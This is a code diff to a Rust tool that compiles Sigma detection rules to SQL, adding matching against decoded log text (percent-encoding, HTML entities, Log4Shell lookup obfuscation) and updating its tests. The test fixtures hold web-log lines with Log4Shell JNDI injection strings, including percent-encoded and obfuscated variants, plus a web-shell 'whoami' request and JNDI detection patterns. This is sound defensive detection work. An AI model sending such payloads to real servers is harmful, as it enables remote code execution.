@@ -6,7 +6,8 @@
 //! case-insensitively and whole-value unless a modifier says otherwise; `*` and `?` are wildcards
 //! (`\` escapes them); a list of values is OR, `|all` makes it AND; `contains`, `startswith`,
 //! `endswith`, `re` (case-sensitive, Rust regex syntax), `cidr`, `cased`, `exists`, `gt`/`gte`/
-//! `lt`/`lte` and `neq` are compiled; field-less keywords search the raw record (`raw` in `web`,
+//! `lt`/`lte` and `neq` are compiled; text matches its logged form or its decoded form
+//! (`sigma_decode()`: percent-decoding twice, HTML entities, Log4Shell lookup obfuscation); field-less keywords search the raw record (`raw` in `web`,
 //! the URI, Host and user agent in `proxy`). The condition grammar is compiled in full: `and`,
 //! `or`, `not`, parentheses, `1 of`/`all of`/`N of` over `them` or wildcard selection names.
 //! Modifiers not compiled yet (base64, base64offset, utf16*, wide, windash, expand, fieldref) and
@@ -348,31 +349,41 @@ fn item_sql(item: &DetectionItem, table: Table) -> Result<String, String> {
                         return Err(format!("cidr on a non-address field ({expr})"));
                     }
                     format!("cidr_contains({}, {expr})", sql_string(&plain_text(&s)))
-                } else if has(Modifier::Re) {
-                    let pattern = s.original.clone();
-                    regex::Regex::new(&pattern)
-                        .map_err(|e| format!("regular expression {pattern:?}: {e}"))?;
-                    format!("regexp_like(CAST({expr} AS VARCHAR), {})", sql_string(&pattern))
                 } else if matches!(kind, Kind::Address) {
                     format!("(ip_text({expr}) LIKE {})", sql_string(&like_pattern(&s, false)))
                 } else {
-                    let cased = has(Modifier::Cased);
-                    let mut p = like_pattern(&s, !cased);
-                    // Keywords are found anywhere in the record.
-                    if has(Modifier::Contains) || keyword {
-                        p = format!("%{p}%");
-                    } else if has(Modifier::StartsWith) {
-                        p.push('%');
-                    } else if has(Modifier::EndsWith) {
-                        p.insert(0, '%');
+                    // Text is matched as logged and as decoded (percent, HTML entities, Log4Shell
+                    // lookups): either form matching is a match.
+                    let raw = format!("CAST({expr} AS VARCHAR)");
+                    let mut targets = vec![raw.clone()];
+                    if kind == Kind::Text && !has(Modifier::Neq) {
+                        targets.push(format!("sigma_decode({raw})"));
                     }
-                    let target = if cased {
-                        format!("CAST({expr} AS VARCHAR)")
-                    } else {
-                        format!("lower(CAST({expr} AS VARCHAR))")
+                    let one = |target: &str| -> Result<String, String> {
+                        if has(Modifier::Re) {
+                            let pattern = s.original.clone();
+                            regex::Regex::new(&pattern)
+                                .map_err(|e| format!("regular expression {pattern:?}: {e}"))?;
+                            return Ok(format!("regexp_like({target}, {})", sql_string(&pattern)));
+                        }
+                        let cased = has(Modifier::Cased);
+                        let mut p = like_pattern(&s, !cased);
+                        // Keywords are found anywhere in the record.
+                        if has(Modifier::Contains) || keyword {
+                            p = format!("%{p}%");
+                        } else if has(Modifier::StartsWith) {
+                            p.push('%');
+                        } else if has(Modifier::EndsWith) {
+                            p.insert(0, '%');
+                        }
+                        let target =
+                            if cased { target.to_string() } else { format!("lower({target})") };
+                        let op = if has(Modifier::Neq) { "NOT LIKE" } else { "LIKE" };
+                        Ok(format!("({target} {op} {})", sql_string(&p)))
                     };
-                    let op = if has(Modifier::Neq) { "NOT LIKE" } else { "LIKE" };
-                    format!("({target} {op} {})", sql_string(&p))
+                    let forms: Vec<String> =
+                        targets.iter().map(|t| one(t)).collect::<Result<_, _>>()?;
+                    format!("({})", forms.join(" OR "))
                 }
             }
         };
@@ -519,6 +530,8 @@ mod tests {
 10.9.8.7 - - [03/Jun/2024:10:00:02 +0000] "POST /uploads/cmd.JSP?c=whoami HTTP/1.1" 200 44 "-" "python-requests/2.31"
 203.0.113.9 - - [03/Jun/2024:10:00:03 +0000] "GET /autodiscover/autodiscover.json?@x.com/mapi/nspi HTTP/1.1" 200 99 "-" "Mozilla/5.0 zgrab"
 203.0.113.10 - - [03/Jun/2024:10:00:04 +0000] "GET /100%_done?a_b HTTP/1.1" 200 1 "-" "Mozilla/5.0"
+203.0.113.11 - - [03/Jun/2024:10:00:05 +0000] "GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D HTTP/1.1" 404 1 "-" "-"
+203.0.113.12 - - [03/Jun/2024:10:00:06 +0000] "GET /s?q=${${lower:j}${::-n}di:ldap://x} HTTP/1.1" 404 1 "-" "-"
 "#;
 
     async fn matches(rule: &str) -> Vec<String> {
@@ -609,7 +622,7 @@ mod tests {
                 "  sel:\n    cs-uri-query|re: '\\$\\{jndi:(ldap|rmi)'\n  condition: sel"
             ))
             .await,
-            ["203.0.113.8"]
+            ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
         );
         // cidr on the client address; numbers compare as numbers.
         assert_eq!(
@@ -618,7 +631,7 @@ mod tests {
         );
         assert_eq!(
             matches(&rule("  sel:\n    sc-status: 404\n  condition: sel")).await,
-            ["203.0.113.8"]
+            ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
         );
         assert_eq!(
             matches(&rule("  sel:\n    sc-bytes|gt: 90\n  condition: sel")).await,
@@ -627,7 +640,13 @@ mod tests {
         // Keywords search the raw line.
         assert_eq!(
             matches(&rule("  keywords:\n    - '${jndi:'\n  condition: keywords")).await,
-            ["203.0.113.8"]
+            ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
+        );
+        // The decoded form matches too: percent-encoded and obfuscated Log4Shell.
+        assert_eq!(
+            matches(&rule("  sel:\n    cs-uri-query|contains: '${jndi:ldap'\n  condition: sel"))
+                .await,
+            ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
         );
     }
 
@@ -652,11 +671,11 @@ mod tests {
         );
         assert_eq!(
             matches(&rule(&format!("{d2}  condition: not (sel_a or sel_b)"))).await,
-            ["203.0.113.8"]
+            ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
         );
         // A list of mappings is OR.
         let r = rule("  sel:\n    - cs-method: POST\n    - sc-status: 404\n  condition: sel");
-        assert_eq!(matches(&r).await, ["203.0.113.8", "10.9.8.7"]);
+        assert_eq!(matches(&r).await, ["203.0.113.8", "10.9.8.7", "203.0.113.11", "203.0.113.12"]);
     }
 
     #[test]
